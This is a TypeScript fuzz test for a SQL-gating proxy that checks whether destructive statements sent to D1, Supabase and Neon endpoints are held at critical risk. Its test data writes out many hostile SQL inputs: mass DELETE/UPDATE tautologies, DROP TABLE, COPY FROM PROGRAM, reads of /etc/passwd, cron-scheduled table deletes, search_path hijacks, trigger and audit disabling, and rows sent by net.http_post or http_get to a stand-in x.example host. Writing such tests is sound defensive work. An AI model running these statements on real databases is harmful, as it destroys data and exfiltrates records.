// SQL read in the wrong language (issue 23 class 2). Properties over generated statements, each
// sent to a real SQL endpoint shape, described by the proxy's code and decided by the default policy:
//   - every destructive construct of each dialect (MERGE, upserts, REPLACE, tautological WHERE
//     clauses, DO, PREPARE/EXECUTE, COPY, triggers, ATTACH/PRAGMA, functions that are not provably
//     read-only …), with random names, keyword case, comments and harmless statements around it,
//     is destructive and held at critical risk, on the service that speaks that dialect;
//   - a destructive statement hidden from one grammar by another grammar's comments or quoting is
//     held at critical risk on an endpoint of unknown dialect, and marked ambiguous;
//   - reads stay reads (no harmless read newly held).
import { execFile } from 'node:child_process';
import t from 'tap';
import fc from 'fast-check';
import pgLib from 'pg';
import { bodyPolicy, MCP_HOST, SQL_HOST, type Decided } from './body-policy.ts';
import { missingPostgres, startPostgres } from '../helpers/pg-redis.ts';
import { JsonMessagesReader } from '../../describe/tunnel-sql.ts';
import { redisStatement } from '../../describe/tunnel-redis.ts';
import { redisGlobMatches } from '../../describe/adapters/sql-redis.ts';
import { mongoCommandSql } from '../../describe/adapters/sql-prisma.ts';

const runs = Number(process.env.AIRLOCK_FUZZ_RUNS ?? 120);
const seed = process.env.AIRLOCK_FUZZ_SEED ? { seed: Number(process.env.AIRLOCK_FUZZ_SEED) } : {};
const decide = await bodyPolicy(t);

const D1 = 'https://api.cloudflare.com/client/v4/accounts/01a7362d577a6c3019a474fd6f485823/d1/database/6f1c0f62/query';
const SUPABASE = 'https://abcdefghijklmnopqrst.supabase.co/pg/query';
const NEON = 'https://ep-cool-darkness-123456.us-east-2.aws.neon.tech/sql';
const GENERIC = `https://${SQL_HOST}/v1/sql`;

// Twenty-seventh pass: a write through a view or CTE the request itself made (each of the view's
// forms deleted or updated every row of a real PostgreSQL 15: the check rides in the twenty-second
// pass's PostgreSQL test below), and the SQL-over-REST services' own spellings of a condition every
// row meets: Snowflake's and Databricks' `IDENTIFIER('id')` (a column named by a string), Athena's
// `ExecutionParameters` (SQL literals written into the query's `?`).
const throughViews: Array<[string, string]> = [
  ['SELECT id, 1 AS k FROM users', 'k = 1'],
  ["SELECT *, 'a' AS k FROM users", "k = 'a'"],
  ['SELECT id, id AS k FROM users', 'id = k'],
  ['SELECT id, true AS k FROM users', 'k'],
  ['SELECT id, NULL::int AS k FROM users', 'k IS NULL'],
  ['SELECT id AS k, email FROM users', 'k > 0'],
  ['SELECT id, email AS k, email AS e FROM users', 'k = e'],
];
// A WHERE that names only another table's columns: every row of the target, or none.
const otherTableOnly = [
  'DELETE FROM users USING orders o WHERE o.id = 1',
  "UPDATE users SET role = 'admin' FROM orders o WHERE o.id = 1",
  'DELETE FROM users USING orders WHERE orders.id = 1 AND orders.total > 0',
  'DELETE FROM users WHERE EXISTS (SELECT 1 FROM orders WHERE orders.id = 1)',
  'DELETE FROM users WHERE EXISTS (SELECT 1 FROM orders WHERE id = 1)',
  'DELETE FROM users WHERE (SELECT count(*) FROM orders WHERE id = 1) > 0',
  'DELETE FROM users WHERE 1 IN (SELECT id FROM orders)',
  "UPDATE users SET role = 'admin' WHERE EXISTS (SELECT 1 FROM users WHERE users.id = 1)",
];
const otherTableControls = [
  'DELETE FROM users USING orders o WHERE o.user_id = users.id AND o.id = 1',
  'DELETE FROM users u USING orders o WHERE o.user_id = u.id AND o.id = 7',
  'DELETE FROM users WHERE id IN (SELECT user_id FROM orders WHERE id = 1)',
  'DELETE FROM users WHERE EXISTS (SELECT 1 FROM orders o WHERE o.user_id = users.id AND o.id = 1)',
  "UPDATE users SET role = o.note FROM orders o WHERE users.id = o.user_id",
];
const throughViewControls: Array<[string, string]> = [
  ['SELECT id, 1 AS k FROM users WHERE id = 5', 'k = 1'],
  ['SELECT id, email AS k FROM users', "k = 'a'"],
  ['SELECT id, 1 AS k FROM users', 'id = 5'],
  ['SELECT id AS k, email FROM users', 'k = 7'],
];

const ident = fc.stringMatching(/^[a-z][a-z0-9_]{0,10}$/).filter((s) => !reserved.has(s));
const reserved = new Set(['do', 'on', 'in', 'is', 'or', 'as', 'by', 'to', 'if', 'of', 'at', 'no', 'all', 'and', 'any', 'asc', 'end', 'for', 'not', 'set', 'use', 'key', 'row', 'add', 'new', 'old', 'off', 'raw', 'sql', 'abort', 'true', 'false', 'null', 'case', 'cast', 'else', 'from', 'into', 'join', 'like', 'then', 'when', 'with', 'desc', 'drop', 'full', 'glob', 'left', 'limit', 'order', 'outer', 'right', 'select', 'table', 'union', 'where', 'view', 'user', 'only', 'some', 'both', 'rows', 'rowid', 'oid', 'first', 'last', 'over', 'plan', 'query', 'temp', 'match', 'range', 'after', 'before', 'begin', 'check', 'group', 'index', 'inner', 'values', 'update', 'delete', 'insert', 'create', 'column', 'default', 'exists', 'having', 'offset', 'except', 'escape', 'filter', 'window', 'array', 'analyse', 'analyze', 'current_date', 'current_time', 'current_user', 'session_user', 'primary', 'unique', 'foreign', 'references', 'returning', 'similar', 'ilike', 'collate', 'between', 'distinct', 'placing', 'leading', 'trailing', 'fetch', 'grant', 'localtime', 'variadic', 'lateral', 'symmetric', 'asymmetric', 'authorization', 'binary', 'natural', 'cross', 'overlaps', 'verbose', 'freeze', 'notnull', 'isnull', 'concurrently', 'tablesample', 'constraint', 'deferrable', 'initially', 'intersect', 'minvalue', 'recursive', 'exclude', 'others', 'ties', 'groups', 'following', 'preceding', 'unbounded', 'current', 'materialized', 'nothing', 'conflict', 'replace', 'ignore', 'fail', 'rollback', 'instead', 'trigger', 'each', 'statement', 'immediate', 'deferred', 'exclusive', 'transaction', 'savepoint', 'release', 'commit', 'vacuum', 'pragma', 'attach', 'detach', 'reindex', 'explain', 'indexed', 'virtual', 'without', 'regexp', 'autoincrement', 'generated', 'always', 'stored', 'nulls', 'do_', 'is_']);

/** Keywords in random case, and a random comment or whitespace run between tokens. */
const noise = fc.record({ mask: fc.integer({ min: 0, max: 2 ** 30 }), gaps: fc.array(fc.constantFrom(' ', '  ', '\n', '\t', ' /* x */ ', ' -- c\n', '/**/'), { minLength: 40, maxLength: 40 }) });
function render(template: string, n: { mask: number; gaps: string[] }): string {
  let k = 0;
  // Only the spaces of the template are replaced (never inside quoted text, which templates avoid).
  return template
    .split(' ')
    .map((tok, i) => (/^[A-Z_]+$/.test(tok) ? [...tok].map((c, j) => (((n.mask >> ((i + j) % 30)) & 1) ? c.toLowerCase() : c)).join('') : tok))
    .reduce((acc, tok) => (acc ? `${acc}${n.gaps[k++ % n.gaps.length]}${tok}` : tok), '');
}

type Dialect = 'sqlite' | 'postgresql';
interface Construct {
  name: string;
  dialects: Dialect[];
  sql: (t: string, c: string, u: string) => string;
}

/** Tautological WHERE clauses (for column c). */
const tautologies = (c: string): string[] => [`1 = 1`, `TRUE`, `${c} = ${c}`, `${c} = 5 OR 1 = 1`, `NOT ( ${c} <> ${c} )`, `( ${c} >= ${c} )`, `${c} = 5 OR TRUE`, `2 > 1`];

const constructs: Construct[] = [
  { name: 'DELETE without WHERE', dialects: ['sqlite', 'postgresql'], sql: (t) => `DELETE FROM ${t}` },
  ...tautologies('c').map((w, i): Construct => ({ name: `DELETE WHERE tautology ${i}`, dialects: ['sqlite', 'postgresql'], sql: (t, c) => `DELETE FROM ${t} WHERE ${tautologies(c)[i]}` })),
  ...tautologies('c').map((w, i): Construct => ({ name: `UPDATE WHERE tautology ${i}`, dialects: ['sqlite', 'postgresql'], sql: (t, c) => `UPDATE ${t} SET ${c} = 1 WHERE ${tautologies(c)[i]}` })),
  { name: 'DROP TABLE', dialects: ['sqlite', 'postgresql'], sql: (t) => `DROP TABLE ${t}` },
  { name: 'upsert DO UPDATE', dialects: ['sqlite', 'postgresql'], sql: (t, c) => `INSERT INTO ${t} ( ${c} ) VALUES ( 1 ) ON CONFLICT ( ${c} ) DO UPDATE SET ${c} = excluded.${c}` },
  { name: 'DELETE after a CTE', dialects: ['sqlite', 'postgresql'], sql: (t, c, u) => `WITH ${u} AS ( SELECT 1 ) DELETE FROM ${t}` },
  { name: 'CREATE TRIGGER', dialects: ['sqlite'], sql: (t, c, u) => `CREATE TRIGGER ${u} AFTER INSERT ON ${t} BEGIN DELETE FROM ${t} ; END` },
  { name: 'REPLACE INTO', dialects: ['sqlite'], sql: (t, c) => `REPLACE INTO ${t} ( ${c} ) VALUES ( 1 )` },
  { name: 'INSERT OR REPLACE', dialects: ['sqlite'], sql: (t, c) => `INSERT OR REPLACE INTO ${t} ( ${c} ) VALUES ( 1 )` },
  { name: 'UPDATE OR REPLACE', dialects: ['sqlite'], sql: (t, c) => `UPDATE OR REPLACE ${t} SET ${c} = 1 WHERE ${c} = 2` },
  { name: 'ATTACH', dialects: ['sqlite'], sql: (t) => `ATTACH DATABASE 'x.db' AS ${t}` },
  { name: 'PRAGMA writable_schema', dialects: ['sqlite'], sql: () => `PRAGMA writable_schema = 1` },
  { name: 'PRAGMA foreign_keys off', dialects: ['sqlite'], sql: () => `PRAGMA foreign_keys = OFF` },
  { name: 'ALTER TABLE DROP COLUMN', dialects: ['sqlite', 'postgresql'], sql: (t, c) => `ALTER TABLE ${t} DROP COLUMN ${c}` },
  { name: 'MERGE THEN DELETE', dialects: ['postgresql'], sql: (t, c, u) => `MERGE INTO ${t} USING ${u} ON ${t}.${c} = ${u}.${c} WHEN MATCHED THEN DELETE` },
  { name: 'MERGE THEN UPDATE', dialects: ['postgresql'], sql: (t, c, u) => `MERGE INTO ${t} USING ${u} ON ${t}.${c} = ${u}.${c} WHEN MATCHED THEN UPDATE SET ${c} = 1` },
  { name: 'DO block', dialects: ['postgresql'], sql: () => `DO $$ BEGIN NULL; END $$` },
  { name: 'PREPARE', dialects: ['postgresql'], sql: (t, c, u) => `PREPARE ${u} AS DELETE FROM ${t}` },
  { name: 'EXECUTE', dialects: ['postgresql'], sql: (t, c, u) => `EXECUTE ${u}` },
  { name: 'COPY TO file', dialects: ['postgresql'], sql: (t) => `COPY ${t} TO '/tmp/x'` },
  { name: 'COPY FROM PROGRAM', dialects: ['postgresql'], sql: (t) => `COPY ${t} FROM PROGRAM 'id'` },
  { name: 'CREATE TRIGGER (pg)', dialects: ['postgresql'], sql: (t, c, u) => `CREATE TRIGGER ${u} AFTER INSERT ON ${t} FOR EACH ROW EXECUTE FUNCTION ${u} ( )` },
  { name: 'SET ROLE', dialects: ['postgresql'], sql: (t) => `SET ROLE ${t}` },
  { name: 'data-modifying CTE', dialects: ['postgresql'], sql: (t, c, u) => `WITH ${u} AS ( DELETE FROM ${t} RETURNING ${c} ) SELECT count ( * ) FROM ${u}` },
  { name: 'pg_read_file', dialects: ['postgresql'], sql: () => `SELECT pg_read_file ( '/etc/passwd' )` },
  { name: 'lo_import', dialects: ['postgresql'], sql: () => `SELECT lo_import ( '/etc/passwd' )` },
  { name: 'dblink_exec', dialects: ['postgresql'], sql: (t) => `SELECT dblink_exec ( 'host=x' , 'drop table ${t}' )` },
  { name: 'schema-qualified pg_terminate_backend', dialects: ['postgresql'], sql: (t) => `SELECT ${t}.pg_terminate_backend ( 1 )` },
  // Drops of an object the scratch schema lacks (SQLite compiles `IF EXISTS` of it to nothing there).
  { name: 'DROP TABLE IF EXISTS', dialects: ['sqlite', 'postgresql'], sql: (t) => `DROP TABLE IF EXISTS ${t}` },
  { name: 'DROP TRIGGER IF EXISTS', dialects: ['sqlite'], sql: (t) => `DROP TRIGGER IF EXISTS ${t}` },
  { name: 'DROP VIEW IF EXISTS', dialects: ['sqlite', 'postgresql'], sql: (t) => `DROP VIEW IF EXISTS ${t}` },
  // A column rewritten in every row; the database made to reach other servers; a view replaced.
  { name: 'ALTER COLUMN TYPE USING', dialects: ['postgresql'], sql: (t, c) => `ALTER TABLE ${t} ALTER COLUMN ${c} TYPE text USING NULL` },
  { name: 'ALTER COLUMN TYPE', dialects: ['postgresql'], sql: (t, c) => `ALTER TABLE ${t} ALTER ${c} SET DATA TYPE integer` },
  { name: 'CREATE SERVER', dialects: ['postgresql'], sql: (t) => `CREATE SERVER ${t} FOREIGN DATA WRAPPER postgres_fdw OPTIONS ( host 'x.example' )` },
  { name: 'CREATE USER MAPPING', dialects: ['postgresql'], sql: (t) => `CREATE USER MAPPING FOR PUBLIC SERVER ${t} OPTIONS ( user 'x' )` },
  { name: 'CREATE SUBSCRIPTION', dialects: ['postgresql'], sql: (t, c) => `CREATE SUBSCRIPTION ${t} CONNECTION 'host=x.example' PUBLICATION ${c}` },
  { name: 'IMPORT FOREIGN SCHEMA', dialects: ['postgresql'], sql: (t, c, u) => `IMPORT FOREIGN SCHEMA ${c} FROM SERVER ${t} INTO ${u}` },
  { name: 'SECURITY LABEL', dialects: ['postgresql'], sql: (t) => `SECURITY LABEL ON TABLE ${t} IS 'system_u:object_r:sepgsql_table_t:s0'` },
  { name: 'CREATE OR REPLACE VIEW', dialects: ['postgresql'], sql: (t, c) => `CREATE OR REPLACE VIEW ${t} AS SELECT ${c} FROM ${t}_base` },
  // SQL run from a string by a function inside a SELECT; HTTP from inside the database (Supabase's
  // pg_net and http extensions); code others call replaced (an `is_admin()` a row-level security policy calls).
  { name: 'query_to_xml', dialects: ['postgresql'], sql: (t) => `SELECT query_to_xml ( $q$DELETE FROM ${t} RETURNING 1$q$ , true , true , '' )` },
  { name: 'ts_stat', dialects: ['postgresql'], sql: (t, c) => `SELECT * FROM ts_stat ( $q$DELETE FROM ${t} RETURNING ${c}$q$ )` },
  { name: 'ts_rewrite with a query', dialects: ['postgresql'], sql: (t, c, u) => `SELECT ts_rewrite ( 'a'::tsquery , $q$SELECT ${c} , ${u} FROM ${t}$q$ )` },
  { name: 'pg_net http_post', dialects: ['postgresql'], sql: (t, c, u) => `SELECT net.http_post ( url := 'https://x.example/' , body := ( SELECT jsonb_agg ( ${c} ) FROM ${t} ) ) AS ${u}` },
  { name: 'http extension http_get', dialects: ['postgresql'], sql: (t, c) => `SELECT ${t}.http_get ( 'https://x.example/?d=' || ${c} ) FROM ${t}` },
  { name: 'CREATE OR REPLACE FUNCTION', dialects: ['postgresql'], sql: (t) => `CREATE OR REPLACE FUNCTION ${t} ( ) RETURNS boolean LANGUAGE sql BEGIN ATOMIC SELECT true ; END` },
  { name: 'CREATE OR REPLACE PROCEDURE', dialects: ['postgresql'], sql: (t) => `CREATE OR REPLACE PROCEDURE ${t} ( ) LANGUAGE sql BEGIN ATOMIC SELECT 1 ; END` },
  { name: 'CREATE OR REPLACE AGGREGATE', dialects: ['postgresql'], sql: (t) => `CREATE OR REPLACE AGGREGATE ${t} ( integer ) ( SFUNC = int4pl , STYPE = integer )` },
  // Triggers and foreign keys (audit triggers included) off for what the session writes next.
  { name: 'SET session_replication_role', dialects: ['postgresql'], sql: () => `SET session_replication_role = replica` },
  { name: 'set_config session_replication_role', dialects: ['postgresql'], sql: () => `SELECT set_config ( 'session_replication_role' , 'replica' , false )` },
  // Twelfth pass: pg_settings' rule makes an UPDATE of it set_config, row by row.
  { name: 'UPDATE pg_settings', dialects: ['postgresql'], sql: () => `UPDATE pg_settings SET setting = 'replica' WHERE name = 'session_replication_role'` },
  { name: 'UPDATE pg_catalog.pg_settings role', dialects: ['postgresql'], sql: (t) => `UPDATE pg_catalog.pg_settings SET setting = '${t}' WHERE name = 'role'` },
  // Every later session's defaults, and which schema a function's body resolves names in.
  { name: 'ALTER DATABASE SET', dialects: ['postgresql'], sql: (t) => `ALTER DATABASE ${t} SET search_path = evil , public` },
  { name: 'ALTER DATABASE SET session_replication_role', dialects: ['postgresql'], sql: (t) => `ALTER DATABASE ${t} SET session_replication_role = replica` },
  { name: 'ALTER DATABASE WITH', dialects: ['postgresql'], sql: (t) => `ALTER DATABASE ${t} WITH CONNECTION LIMIT 0` },
  { name: 'ALTER FUNCTION SET search_path', dialects: ['postgresql'], sql: (t, c) => `ALTER FUNCTION ${t} ( ) SET search_path = ${c}` },
  // Eighth pass: a transaction another session prepared, finished unseen (its writes land or are
  // thrown away); extensions' functions that run the SQL or GraphQL text they are given, now or on a
  // schedule (pg_cron, pg_graphql, on Supabase and Neon); pg_stat_reset's siblings.
  { name: 'ROLLBACK PREPARED', dialects: ['postgresql'], sql: (t) => `ROLLBACK PREPARED '${t}'` },
  { name: 'COMMIT PREPARED', dialects: ['postgresql'], sql: (t) => `COMMIT PREPARED '${t}'` },
  { name: 'cron.schedule', dialects: ['postgresql'], sql: (t, c, u) => `SELECT cron.schedule ( '${u}' , '*/5' , $q$DELETE FROM ${t}$q$ )` },
  { name: 'cron.schedule_in_database', dialects: ['postgresql'], sql: (t, c, u) => `SELECT cron.schedule_in_database ( '${u}' , '*/5' , $q$DELETE FROM ${t}$q$ , '${c}' )` },
  { name: 'cron.alter_job', dialects: ['postgresql'], sql: (t) => `SELECT cron.alter_job ( 7 , command := $q$DROP TABLE ${t}$q$ )` },
  { name: 'graphql.resolve', dialects: ['postgresql'], sql: (t) => `SELECT graphql.resolve ( $q$mutation { deleteFrom${t}Collection ( atMost : 1000 ) { affectedCount } }$q$ )` },
  // Tenth pass: Supabase Realtime's Broadcast from the database sends rows to a topic's subscribers, past Airlock.
  { name: 'realtime.send', dialects: ['postgresql'], sql: (t, c) => `SELECT realtime.send ( ( SELECT jsonb_agg ( ${c} ) FROM ${t} ) , 'e' , 'room' , false )` },
  { name: 'realtime.messages insert', dialects: ['postgresql'], sql: (t, c) => `INSERT INTO realtime.messages ( topic , extension , payload , private ) SELECT 'room' , 'broadcast' , jsonb_agg ( ${c} ) , false FROM ${t}` },
  { name: 'pg_stat_reset_shared', dialects: ['postgresql'], sql: () => `SELECT pg_stat_reset_shared ( 'bgwriter' )` },
  { name: 'pg_ls_waldir', dialects: ['postgresql'], sql: () => `SELECT * FROM pg_catalog.pg_ls_waldir ( )` },
  { name: 'pg_ls_logdir', dialects: ['postgresql'], sql: (t) => `SELECT name FROM pg_ls_logdir ( ) AS ${t}` },
  // Thirteenth pass: settings that make the server read or resolve later statements otherwise than
  // Airlock read them (a later message of the request, a later request on a pooled session): an
  // encoding in which a backslash ends a character; pg_catalog searched after a schema the agent writes.
  { name: 'SET client_encoding SJIS', dialects: ['postgresql'], sql: () => `SET client_encoding = 'SJIS'` },
  { name: 'SET NAMES BIG5', dialects: ['postgresql'], sql: () => `SET NAMES 'BIG5'` },
  { name: 'SET LOCAL client_encoding', dialects: ['postgresql'], sql: () => `SET LOCAL client_encoding TO 'UHC'` },
  { name: 'set_config client_encoding', dialects: ['postgresql'], sql: (t) => `SELECT set_config ( 'client_encoding' , 'GBK' , false ) FROM ${t}` },
  { name: 'set_config client_encoding by expression', dialects: ['postgresql'], sql: (t, c) => `SELECT set_config ( 'client_encoding' , ${c} , false ) FROM ${t}` },
  { name: 'SET search_path pg_catalog after', dialects: ['postgresql'], sql: (t) => `SET search_path = ${t} , pg_catalog` },
  { name: 'SET search_path quoted pg_catalog after', dialects: ['postgresql'], sql: (t) => `SET SESSION search_path TO "$user" , ${t} , "pg_catalog"` },
  { name: 'set_config search_path pg_catalog after', dialects: ['postgresql'], sql: (t) => `SELECT set_config ( 'search_path' , '${t},PG_CATALOG' , true )` },
  // A path into Supabase's own data: later unqualified names act there, under grants given for public's.
  { name: 'SET search_path auth', dialects: ['postgresql'], sql: () => `SET search_path = auth , public` },
  { name: 'set_config search_path storage', dialects: ['postgresql'], sql: () => `SELECT set_config ( 'search_path' , 'storage' , false )` },
  { name: 'lo_truncate', dialects: ['postgresql'], sql: () => `SELECT lo_truncate ( lo_open ( 16384 , 131072 ) , 0 )` },
  // pgmq (Supabase Queues) dropping or emptying a queue; statistics thrown away; a replica's replay stopped.
  { name: 'pgmq.purge_queue', dialects: ['postgresql'], sql: (t) => `SELECT pgmq.purge_queue ( '${t}' )` },
  { name: 'pgmq.drop_queue', dialects: ['postgresql'], sql: (t) => `SELECT * FROM pgmq.drop_queue ( '${t}' )` },
  { name: 'pg_stat_statements_reset', dialects: ['postgresql'], sql: () => `SELECT extensions.pg_stat_statements_reset ( )` },
  { name: 'pg_wal_replay_pause', dialects: ['postgresql'], sql: () => `SELECT pg_wal_replay_pause ( )` },
  // A built-in's name taken in another schema: an exact argument match wins over pg_catalog's.
  { name: 'CREATE FUNCTION named as a built-in', dialects: ['postgresql'], sql: (t) => `CREATE FUNCTION ${t}.lower ( x varchar ) RETURNS text LANGUAGE sql RETURN 'x'` },
  { name: 'CREATE FUNCTION count unqualified', dialects: ['postgresql'], sql: (t, c) => `CREATE FUNCTION count ( ${c} varchar ) RETURNS bigint LANGUAGE sql BEGIN ATOMIC SELECT 1 ; END` },
  { name: 'CREATE OPERATOR named as a built-in', dialects: ['postgresql'], sql: (t, c, u) => `CREATE OPERATOR ${t}.= ( LEFTARG = varchar , RIGHTARG = varchar , FUNCTION = ${u} )` },
  { name: 'CREATE AGGREGATE named as a built-in', dialects: ['postgresql'], sql: (t) => `CREATE AGGREGATE ${t}.sum ( varchar ) ( SFUNC = textcat , STYPE = text )` },
  // D1 reads a double-quoted name that matches no column as a string (SQLite's default build).
  { name: 'DELETE WHERE "x" = \'x\'', dialects: ['sqlite'], sql: (t, c, u) => `DELETE FROM ${t} WHERE "${u}" = '${u}'` },
  { name: 'UPDATE WHERE … OR "x" = \'x\'', dialects: ['sqlite'], sql: (t, c, u) => `UPDATE "${t}" SET "${c}" = 1 WHERE ${c} = 5 OR "${u}" = '${u}'` },
  { name: 'DELETE WHERE "x" IN (\'x\')', dialects: ['sqlite'], sql: (t, c, u) => `DELETE FROM "${t}" WHERE "${u}" IN ( '${u}' , 'z' )` },
  // Each row finds itself in an EXISTS over its own table.
  { name: 'DELETE WHERE EXISTS itself', dialects: ['sqlite', 'postgresql'], sql: (t, c, u) => `DELETE FROM ${t} WHERE EXISTS ( SELECT 1 FROM ${t} ${u} WHERE ${u}.${c} = ${t}.${c} )` },
  // A CASE whose every branch holds.
  { name: 'DELETE WHERE CASE all true', dialects: ['sqlite', 'postgresql'], sql: (t, c) => `DELETE FROM ${t} WHERE CASE WHEN ${c} = 1 THEN 1 = 1 ELSE 2 = 2 END` },
  { name: 'UPDATE WHERE CASE all true', dialects: ['sqlite', 'postgresql'], sql: (t, c, u) => `UPDATE ${t} SET ${u} = 1 WHERE CASE ${c} WHEN 1 THEN TRUE ELSE ${c} IS NOT NULL END` },
  // Parameters (D1's `params`): only the rows spared are named, or a bound value alone decides.
  ...[(c: string) => `${c} != ?`, (c: string) => `${c} <> :${c}`, (c: string) => `${c} NOT IN ( @a , @b )`, (c: string) => `${c} = ?1 OR $${c}`, (c: string) => `${c} IS NOT ?2`].flatMap((w, i): Construct[] => [
    { name: `DELETE WHERE parameter ${i}`, dialects: ['sqlite'], sql: (t, c) => `DELETE FROM ${t} WHERE ${w(c)}` },
    { name: `UPDATE WHERE parameter ${i}`, dialects: ['sqlite'], sql: (t, c, u) => `UPDATE ${t} SET ${u} = ? WHERE ${w(c)}` },
  ]),
  // The table's own values: every row is among them.
  { name: 'DELETE WHERE IN itself', dialects: ['sqlite', 'postgresql'], sql: (t, c) => `DELETE FROM ${t} WHERE ${c} IN ( SELECT ${c} FROM ${t} )` },
  { name: 'UPDATE WHERE = ANY itself', dialects: ['postgresql'], sql: (t, c, u) => `UPDATE ${t} SET ${u} = 1 WHERE ${c} = ANY ( SELECT ${c} FROM ${t} WHERE 1 = 1 )` },
  // Rows offered to other servers: a publication, a replication slot (every later change, read out).
  { name: 'CREATE PUBLICATION', dialects: ['postgresql'], sql: (t) => `CREATE PUBLICATION ${t} FOR ALL TABLES` },
  { name: 'ALTER PUBLICATION', dialects: ['postgresql'], sql: (t, c) => `ALTER PUBLICATION ${t} ADD TABLE ${c}` },
  { name: 'replication slot', dialects: ['postgresql'], sql: (t) => `SELECT pg_create_logical_replication_slot ( '${t}' , 'test_decoding' )` },
  { name: 'replication slot changes', dialects: ['postgresql'], sql: (t) => `SELECT * FROM pg_catalog.pg_logical_slot_get_changes ( '${t}' , NULL , NULL )` },
  // Code others call swapped by name; DDL auditing switched off.
  { name: 'ALTER FUNCTION RENAME', dialects: ['postgresql'], sql: (t, c) => `ALTER FUNCTION ${t} ( ) RENAME TO ${c}` },
  { name: 'ALTER FUNCTION SET SCHEMA', dialects: ['postgresql'], sql: (t, c) => `ALTER FUNCTION ${t} ( ) SET SCHEMA ${c}` },
  { name: 'ALTER VIEW RENAME', dialects: ['postgresql'], sql: (t, c) => `ALTER VIEW ${t} RENAME TO ${c}` },
  { name: 'ALTER EVENT TRIGGER DISABLE', dialects: ['postgresql'], sql: (t) => `ALTER EVENT TRIGGER ${t} DISABLE` },
  { name: 'DELETE WHERE = ANY itself LIMIT ALL', dialects: ['postgresql'], sql: (t, c) => `DELETE FROM ${t} WHERE ${c} = ANY ( SELECT ${c} FROM ${t} LIMIT ALL )` },
  // WHERE clauses that name no value the rows are narrowed to: the column against itself through
  // arithmetic, functions, ranges or arrays; IS NOT NULL; a regular expression every string matches.
  // (SQLite's sample rows miss the ones true only for numbers; PostgreSQL's reading adds them.)
  ...([
    [(c: string) => `${c} = ${c} + 0`, ['sqlite', 'postgresql']], [(c: string) => `${c} < ${c} + 1`, ['sqlite', 'postgresql']],
    [(c: string) => `${c} * 1 = ${c}`, ['sqlite', 'postgresql']], [(c: string) => `${c} <> ${c} + 1`, ['sqlite', 'postgresql']],
    [(c: string) => `lower ( ${c} ) = lower ( ${c} )`, ['sqlite', 'postgresql']], [(c: string) => `${c} BETWEEN ${c} - 1 AND ${c} + 1`, ['sqlite', 'postgresql']],
    [(c: string) => `${c} IS NOT NULL`, ['sqlite', 'postgresql']], [(c: string) => `NOT ( ${c} IS NULL )`, ['sqlite', 'postgresql']],
    // Only the rows spared are named: every other row is touched.
    [(c: string) => `${c} <> 5`, ['sqlite', 'postgresql']], [(c: string) => `${c} != 5`, ['sqlite', 'postgresql']],
    [(c: string) => `${c} NOT IN ( 1 , 2 )`, ['sqlite', 'postgresql']], [(c: string) => `NOT ( ${c} = 5 )`, ['sqlite', 'postgresql']],
    [(c: string) => `( ${c} = 5 ) IS NOT TRUE`, ['sqlite', 'postgresql']], [(c: string) => `( ${c} = ${c} ) IS NOT FALSE`, ['sqlite', 'postgresql']],
    [(c: string) => `${c} IS DISTINCT FROM 5`, ['sqlite', 'postgresql']],
    [(c: string) => `${c} = ANY ( ARRAY [ ${c} ] )`, ['postgresql']], [(c: string) => `${c}::text ~ ''`, ['postgresql']], [(c: string) => `${c}::text ~* '.*'`, ['postgresql']],
    // True for every row by their values, not their shape (PostgreSQL's reading adds SQLite's
    // sample run where SQLite reads the statement too); PostgreSQL's LIKE and SIMILAR TO spelled
    // as operators, and patterns every string matches.
    [(c: string) => `( ${c} > 0 ) OR ( ${c} <= 0 )`, ['sqlite', 'postgresql']], [(c: string) => `NOT ( ${c} = 1 AND ${c} = 2 )`, ['sqlite', 'postgresql']],
    [(c: string) => `${c} = ( SELECT ${c} )`, ['sqlite', 'postgresql']], [(c: string) => `${c} LIKE '%' ESCAPE '!'`, ['sqlite', 'postgresql']],
    [(c: string) => `${c} > -9223372036854775808`, ['sqlite', 'postgresql']],
    [(c: string) => `${c}::text ~~ '%'`, ['postgresql']], [(c: string) => `${c}::text ~~* '%%'`, ['postgresql']], [(c: string) => `${c}::text SIMILAR TO '%'`, ['postgresql']],
    [(c: string) => `${c}::text ~ 'a*'`, ['postgresql']], [(c: string) => `${c}::text ~ '^'`, ['postgresql']],
    // A pattern that names the rows spared (as `<>` does), or a list with a pattern every string matches.
    [(c: string) => `${c}::text !~ 'zz'`, ['postgresql']], [(c: string) => `${c}::text NOT SIMILAR TO 'zz%'`, ['postgresql']], [(c: string) => `${c} NOT LIKE 'qq%'`, ['sqlite', 'postgresql']],
    [(c: string) => `${c}::text ILIKE ANY ( ARRAY [ 'a%' , '%' ] )`, ['postgresql']], [(c: string) => `${c}::text LIKE ALL ( ARRAY [ '%' ] )`, ['postgresql']],
  ] as Array<[(c: string) => string, Dialect[]]>).flatMap(([w, dialects], i): Construct[] => [
    { name: `DELETE WHERE unnarrowed ${i}`, dialects, sql: (t, c) => `DELETE FROM ${t} WHERE ${w(c)}` },
    { name: `UPDATE WHERE unnarrowed ${i}`, dialects, sql: (t, c, u) => `UPDATE ${t} SET ${u} = 1 WHERE ${w(c)}` },
  ]),
];

const harmless = fc.constantFrom('', 'SELECT 1 ; ', 'BEGIN ; ', '/* maintenance */ ');
const endpoints: Record<Dialect, Array<{ url: string; key: string }>> = {
  sqlite: [{ url: D1, key: 'sql' }],
  postgresql: [{ url: SUPABASE, key: 'query' }, { url: NEON, key: 'query' }],
};

t.test('every destructive construct, in its own dialect, is held at critical risk', async (t) => {
  const cases = constructs.flatMap((c) => c.dialects.flatMap((d) => endpoints[d].map((e) => ({ c, d, e }))));
  await fc.assert(
    fc.asyncProperty(fc.constantFrom(...cases), ident, ident, ident, noise, harmless, async ({ c, d, e }, tbl, col, other, n, prefix) => {
      fc.pre(tbl !== col && tbl !== other && col !== other);
      const sql = `${prefix}${render(c.sql(tbl, col, other), n)}`;
      const { description, decision } = await decide({ url: e.url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ [e.key]: sql }) });
      if (!description.sql?.destructive) throw new Error(`${c.name} (${d}) not destructive: ${sql} → ${JSON.stringify(description.sql)}`);
      if (decision.approval?.risk !== 'critical') throw new Error(`${c.name} (${d}): ${decision.action} ${decision.rule}`);
      if (description.sql.dialect !== d) throw new Error(`${c.name}: read as ${description.sql.dialect}, not ${d}`);
    }),
    { numRuns: runs * 2, ...seed },
  );
  t.pass('checked');
});

/** Every destructive statement, hidden each way, on the endpoint of unknown dialect: critical, and marked as read two ways. */
async function heldCriticalAndAmbiguous(hide: fc.Arbitrary<(d: string) => string>, destructive: fc.Arbitrary<(t: string) => string>): Promise<void> {
  await fc.assert(
    fc.asyncProperty(hide, destructive, ident, async (h, d, tbl) => {
